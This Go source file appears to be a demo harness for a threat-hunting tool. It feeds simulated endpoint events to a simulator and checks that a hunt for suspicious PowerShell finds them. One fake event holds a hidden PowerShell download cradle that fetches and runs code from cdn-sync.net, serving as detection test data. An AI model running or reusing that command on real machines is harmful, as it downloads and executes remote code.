package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
)

// demoHuntQuestion is the demo's hunt: no model, so the library's named hunt answers.
const demoHuntQuestion = "show me endpoints with suspicious PowerShell in the last 24 hours"

var huntEventsRE = regexp.MustCompile(`(?m)^(\d+) events on (\d+) hosts`)

// hunt runs one hunt after the investigations, as an analyst would (`starter hunt
// --yes`), and prints its query, summary and result files. It returns the problems
// -check reports: the hunt must finish with at least one event.
func (w *watcher) hunt(ctx context.Context) []string {
	if err := w.addHuntingTelemetry(ctx); err != nil {
		return []string{"hunt: " + err.Error()}
	}
	fmt.Fprintf(w.out, "\nHunting: starter hunt %q --yes (the library translates: no model is configured)\n", demoHuntQuestion)
	var out bytes.Buffer
	cmd := exec.CommandContext(ctx, filepath.Join(w.bin, "starter"), "hunt", demoHuntQuestion, "--yes", "--as", "demo-analyst")
	cmd.Env = append(os.Environ(), w.env...)
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	fmt.Fprint(w.out, out.String())
	if err != nil {
		return []string{fmt.Sprintf("hunt: starter hunt failed: %v", err)}
	}
	m := huntEventsRE.FindStringSubmatch(out.String())
	if m == nil {
		return []string{"hunt: no summary in the output of starter hunt"}
	}
	if n, _ := strconv.Atoi(m[1]); n < 1 {
		return []string{"hunt: finished with no event; the simulator's scenario should match suspicious PowerShell"}
	}
	return nil
}

// demoTelemetry is endpoint activity besides the threats: a PowerShell download
// cradle on the sales laptop an hour ago, and a routine PowerShell script the query
// must leave out (the simulator evaluates S1QL).
const demoTelemetry = `{"events":[
 {"agentId":"1900000000000000002","eventType":"Process Creation","before":"1h","processName":"powershell.exe","processCmd":"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://cdn-sync.net/a')"},
 {"agentId":"1900000000000000003","eventType":"Process Creation","before":"2h","processName":"powershell.exe","processCmd":"powershell.exe -File C:\\scripts\\inventory-report.ps1"}]}`

// addHuntingTelemetry gives the simulator's Deep Visibility something to find.
func (w *watcher) addHuntingTelemetry(ctx context.Context) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, w.simURL+"/sim/events", strings.NewReader(demoTelemetry))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return fmt.Errorf("adding hunting telemetry to the simulator: %w", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		b, _ := io.ReadAll(resp.Body)
		return fmt.Errorf("adding hunting telemetry to the simulator: %s: %s", resp.Status, b)
	}
	return nil
}
